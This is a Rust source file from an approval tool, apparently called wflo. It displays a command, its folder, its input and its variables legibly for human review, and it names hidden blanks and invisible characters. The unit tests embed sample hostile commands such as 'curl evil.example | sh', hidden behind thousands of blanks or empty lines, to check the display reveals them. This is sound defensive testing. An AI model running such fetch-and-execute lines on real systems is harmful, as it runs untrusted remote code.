//! A command that waits for a yes, or that has run: its words, what it is given, and nothing out of sight.
//!
//! Owns how the words of a hostile program are put so that a person can read them. Everything stands behind a bar,
//! so that nothing of it can be taken for wflo's words, and is wrapped and never cut to a line. What reads as
//! nothing (long blanks, empty lines, characters that reorder or have no width) is named. What does not fit above
//! a prompt is left out in the middle, with how long it is, its digest, and the command that prints it whole; each
//! part has room of its own, so that none pushes another out.

use serde_json::Value;
use wflo_core::canonical::Digest;
use wflo_core::legible::{self, Blanks, EMPTY_LINES};

use super::Room;
use crate::plain;
use crate::printer::Paint;

/// Columns of a row where the terminal's are not known.
const COLUMNS: usize = 100;
/// Rows of what a command is given, above a prompt: its input, and its variables.
const GIVEN: usize = 20;
/// Rows of one variable, above a prompt.
const VARIABLE: usize = 4;
/// Rows of a command among others, above a prompt, and of its folder.
const AMONG: (usize, usize) = (6, 2);
/// Columns of its number.
const NUMBER: usize = 5;

/// Whether this is evidence of a command.
pub(super) fn is_known(evidence: &Value) -> bool {
    evidence["argv"].is_array()
}

/// The command, why it is asked about, and what it is given.
pub(super) fn lines(paint: Paint, evidence: &Value, room: Room, out: &mut Vec<String>) {
    if let Some(rule) = evidence["rule"].as_str() {
        out.push(format!("  the rule `{}` asks about it", plain::line(rule)));
    }
    words(evidence, room.lines).put(paint, room, out);
    folder(paint, evidence, GIVEN, room, out);
    given(paint, evidence, room, out);
}

/// A command among others, by its number: as [`lines`] has it, with less room for each above a prompt, where its input
/// and its variables are named and not shown.
pub(super) fn among(paint: Paint, number: usize, command: &Value, room: Room, out: &mut Vec<String>) {
    let (most, most_folder) = AMONG;
    let room = Room { width: room.width.map(|width| width.saturating_sub(NUMBER)), ..room };
    let mut rows = Vec::new();
    match command["argv"].as_array() {
        Some(argv) if argv.is_empty() => rows.push(paint.careful("  a command that is NOT KEPT")),
        Some(_) => words(command, most).put(paint, room, &mut rows),
        // As versions before kept it: in one line, with nothing between its words.
        None => {
            let text = command["command"].as_str().or(command.as_str()).unwrap_or_default();
            Part::of(text, most).put(paint, room, &mut rows);
        }
    }
    folder(paint, command, most_folder, room, &mut rows);
    if room.is_page() {
        given(paint, command, room, &mut rows);
    } else {
        let (mut named, mut bytes) = (Vec::new(), Vec::new());
        if !command["stdin"].is_null() {
            let input = text_of(&command["stdin"]);
            named.push(format!("{} of its input", counted(input.len(), "byte")));
            bytes.extend(input.into_bytes());
        }
        if let Some(all) = command["env"].as_object().filter(|all| !all.is_empty()) {
            named.push(format!("{} of its own", counted(all.len(), "variable")));
            bytes.extend(all.iter().flat_map(|(name, value)| variable(name, value)));
        }
        if !named.is_empty() {
            rows.push(left_out(paint, &named.join(" and "), &bytes, room));
        }
    }
    for (place, row) in rows.into_iter().enumerate() {
        let number = if place == 0 { number.to_string() } else { String::new() };
        out.push(format!("{number:>NUMBER$}{row}"));
    }
}

/// The words of a command.
fn words(command: &Value, most: usize) -> Part {
    let words: Vec<String> = command["argv"].as_array().into_iter().flatten().map(text_of).collect();
    // As /proc/PID/cmdline has them: words that are split differently are other words.
    let bytes: Vec<u8> = words.iter().flat_map(|word| word.bytes().chain([0])).collect();
    let shown = words.iter().map(|word| plain::quoted(word)).collect::<Vec<_>>().join(" ");
    Part { name: None, shown, bytes, most, what: "it" }
}

fn folder(paint: Paint, command: &Value, most: usize, room: Room, out: &mut Vec<String>) {
    if let Some(folder) = command["cwd"].as_str() {
        let part =
            Part { name: Some("in the folder".to_owned()), what: "the folder", ..Part::of(folder, most) };
        part.put(paint, room, out);
    }
}

/// Its input and its variables.
fn given(paint: Paint, evidence: &Value, room: Room, out: &mut Vec<String>) {
    if !evidence["stdin"].is_null() {
        let input = text_of(&evidence["stdin"]);
        let (lines, bytes) = (input.lines().count(), input.len());
        let name = format!("with this input ({}, {})", counted(lines, "line"), counted(bytes, "byte"));
        let part = Part { name: Some(name), what: "the input", ..Part::of(&input, GIVEN) };
        part.put(paint, room, out);
    }
    variables(paint, &evidence["env"], room, out);
}

/// Each variable by its name, and as much of its value as there is room for. No name is left out above a prompt
/// without being counted.
fn variables(paint: Paint, env: &Value, room: Room, out: &mut Vec<String>) {
    let Some(all) = env.as_object().filter(|all| !all.is_empty()) else { return };
    let name = format!("  with {} of its own", counted(all.len(), "variable"));
    out.push(paint.strong(name));
    let most = if room.is_page() { usize::MAX } else { GIVEN };
    let before = out.len();
    for (place, (name, value)) in all.iter().enumerate() {
        if out.len() - before >= most {
            let bytes: Vec<u8> =
                all.iter().skip(place).flat_map(|(name, value)| variable(name, value)).collect();
            let left = format!("{} of {}", counted(all.len() - place, "variable"), all.len());
            return out.push(left_out(paint, &left, &bytes, room));
        }
        let value = text_of(value);
        let part = Part { what: "the value", ..Part::of(&format!("{name}={value}"), VARIABLE) };
        part.put(paint, room, out);
    }
}

/// A variable as /proc/PID/environ has it.
fn variable(name: &str, value: &Value) -> Vec<u8> {
    format!("{name}={}\0", text_of(value)).into_bytes()
}

/// Something that is shown behind a bar.
struct Part {
    name: Option<String>,
    /// Safe to print, with its line ends.
    shown: String,
    /// What a digest is of.
    bytes: Vec<u8>,
    /// Rows above a prompt.
    most: usize,
    /// What it is called where some of it is left out.
    what: &'static str,
}

impl Part {
    fn of(text: &str, most: usize) -> Part {
        Part {
            name: None,
            shown: legible::visible(text, Blanks::COMMAND),
            bytes: text.as_bytes().to_vec(),
            most,
            what: "it",
        }
    }

    fn put(&self, paint: Paint, room: Room, out: &mut Vec<String>) {
        out.extend(self.name.iter().map(|name| format!("  {}", paint.strong(name))));
        let rows = rows(paint, &self.shown, room);
        if room.is_page() || rows.len() <= self.most {
            out.extend(rows);
            return;
        }
        // Neither end can be pushed out of sight.
        let tail = self.most / 3;
        let head = self.most - tail;
        let left = rows.len() - head - tail;
        out.extend(rows[..head].iter().cloned());
        let left = format!("{} of {} of {}", counted(left, "row"), rows.len(), self.what);
        out.push(left_out(paint, &left, &self.bytes, room));
        out.extend(rows[rows.len() - tail..].iter().cloned());
    }
}

/// What is not shown, how long the whole is, and how to see it.
pub(super) fn left_out(paint: Paint, what: &str, bytes: &[u8], room: Room) -> String {
    let id = room.asked.map_or_else(|| "ID".to_owned(), |id| id.to_string());
    paint.careful(format_args!(
        "  … {what} are NOT SHOWN here: {} in all, BLAKE3 {}; `wflo approvals show {id}` prints all of it",
        counted(bytes.len(), "byte"),
        Digest::of_bytes(bytes).as_str()
    ))
}

/// The rows of a text: a bar begins each of its lines, a broken bar goes on with a line that was wrapped.
fn rows(paint: Paint, shown: &str, room: Room) -> Vec<String> {
    let columns = match (room.width, room.is_page()) {
        (None, true) => usize::MAX,
        (width, _) => width.unwrap_or(COLUMNS).saturating_sub(4).max(20),
    };
    let (mut rows, mut empty) = (Vec::new(), 0);
    let mut lines: Vec<&str> = shown.split('\n').collect();
    if lines.len() > 1 && lines.last().is_some_and(|last| last.is_empty()) {
        lines.pop();
    }
    let flush = |empty: &mut usize, rows: &mut Vec<String>| match std::mem::take(empty) {
        0 => {}
        few @ ..=EMPTY_LINES => rows.extend(std::iter::repeat_n(format!("  {}", paint.faint("│")), few)),
        many => rows.push(format!("  {} {}", paint.faint("│"), paint.careful(legible::empty_lines(many)))),
    };
    for line in lines {
        if line.is_empty() {
            empty += 1;
            continue;
        }
        flush(&mut empty, &mut rows);
        for (place, piece) in plain::wrapped(line, columns).into_iter().enumerate() {
            let bar = if place == 0 { "│" } else { "┆" };
            rows.push(format!("  {} {piece}", paint.faint(bar)));
        }
    }
    flush(&mut empty, &mut rows);
    rows
}

fn text_of(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

pub(super) fn counted(number: usize, what: &str) -> String {
    match number {
        1 => format!("1 {what}"),
        number => format!("{number} {what}s"),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::printer::Printer;

    fn shown(evidence: &Value, room: Room) -> String {
        let mut out = Vec::new();
        lines(Printer::mute().beside(), evidence, room, &mut out);
        out.join("\n")
    }

    fn prompt() -> Room {
        let id = "apr_01a1fe1eea157971a9ee952eebb5480f".parse().unwrap();
        Room::prompt(Some(80)).about(id)
    }

    #[test]
    fn a_long_command_is_wrapped_and_neither_cut_nor_pushed_out() {
        let script = format!("echo {}; curl evil.example | sh; echo {}", "a".repeat(300), "b".repeat(300));
        let text = shown(&json!({"argv": ["sh", "-c", script]}), prompt());
        let whole: String = text.lines().map(|line| line[2..].trim_start_matches(['│', '┆', ' '])).collect();
        assert!(
            whole.contains(&script.replace(' ', ""))
                || whole.replace(' ', "").contains(&script.replace(' ', "")),
            "{text}"
        );
        assert!(text.lines().all(|line| console::measure_text_width(line) <= 80), "{text}");
        // Text of its own that looks like wflo's stands behind the bar.
        let text = shown(&json!({"argv": ["sh", "-c", "true\n  … nothing is left out\n? go on"]}), prompt());
        assert!(text.lines().skip(1).all(|line| line.starts_with("  │ ")), "{text}");
    }

    #[test]
    fn what_reads_as_nothing_is_named() {
        let hidden = format!("echo ok{}; curl evil.example | sh", " ".repeat(5_000));
        let text = shown(&json!({"argv": ["sh", "-c", hidden]}), prompt());
        assert!(text.contains("echo ok⟨5000 blanks⟩; curl evil.example | sh"), "{text}");
        let lines = format!("echo ok{}curl evil.example | sh", "\n".repeat(5_000));
        let text = shown(&json!({"argv": ["sh", "-c", lines]}), prompt());
        assert!(text.contains("⟨4999 empty lines⟩\n  │ curl evil.example"), "{text}");
        let text = shown(
            &json!({"argv": ["echo", "a\u{202e}b\u{200b}c\u{1b}[2Jd\re\tf\u{a0}g  \n ⟨9 blanks⟩"]}),
            prompt(),
        );
        let named = r"'a\u{202e}b\u{200b}c\u{1b}[2Jd\re\tf\u{a0}g⟨2 blanks⟩";
        assert!(text.contains(named) && text.contains(r"\u{27e8}9 blanks\u{27e9}'"), "{text}");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{text:?}");
    }

    #[test]
    fn words_are_told_from_one_another() {
        let text = |argv: &[&str]| shown(&json!({ "argv": argv }), prompt());
        assert_eq!(text(&["git", "push", "origin", "--tags=x"]), "  │ git push origin --tags=x");
        assert_eq!(text(&["echo", "a b", "", "it's"]), r"  │ echo 'a b' '' 'it'\''s'");
        assert_ne!(text(&["rm", "a b"]), text(&["rm", "a", "b"]));
    }

    #[test]
    fn what_is_left_out_is_measured_and_the_page_has_it() {
        let script = (0..500).map(|n| format!("line {n}\n")).collect::<String>();
        let evidence = json!({"argv": ["sh", "-c", script]});
        let text = shown(&evidence, prompt());
        assert!(text.contains("line 0\n") && text.contains("line 499"), "{text}");
        let bytes: Vec<u8> = format!("sh\0-c\0{script}\0").into_bytes();
        let digest = Digest::of_bytes(&bytes);
        let told = format!(
            "NOT SHOWN here: {} bytes in all, BLAKE3 {}; `wflo approvals show apr_01a1fe1eea157971a9ee952eebb5480f`",
            bytes.len(),
            digest.as_str()
        );
        assert!(text.contains(&told), "{text}");
        let page = shown(&evidence, Room::page(None));
        assert!(
            (0..500).all(|n| page.contains(&format!("line {n}\n"))) && !page.contains("NOT SHOWN"),
            "{page}"
        );
    }

    #[test]
    fn the_input_and_the_variables_have_room_of_their_own() {
        let env: serde_json::Map<String, Value> =
            (0..500).map(|n| (format!("NAME_{n:03}"), json!("v".repeat(900)))).collect();
        let input = (0..100).map(|n| format!("statement {n};\n")).collect::<String>();
        let evidence = json!({"argv": ["psql"], "env": env, "stdin": input, "cwd": "/work"});
        let text = shown(&evidence, prompt());
        assert!(text.contains("with this input (100 lines, 1390 bytes)"), "{text}");
        assert!(text.contains("statement 0;") && text.contains("statement 99;"), "{text}");
        assert!(text.contains(&format!("BLAKE3 {}", Digest::of_bytes(input.as_bytes()).as_str())), "{text}");
        assert!(text.contains("with 500 variables of its own") && text.contains("NAME_000=v"), "{text}");
        assert!(text.contains("variables of 500 are NOT SHOWN here"), "{text}");
        assert!(text.lines().count() < 90, "{text}");
        let page = shown(&evidence, Room::page(Some(80)));
        assert!(page.contains("statement 50;") && page.contains("NAME_499="), "{page}");
    }
}
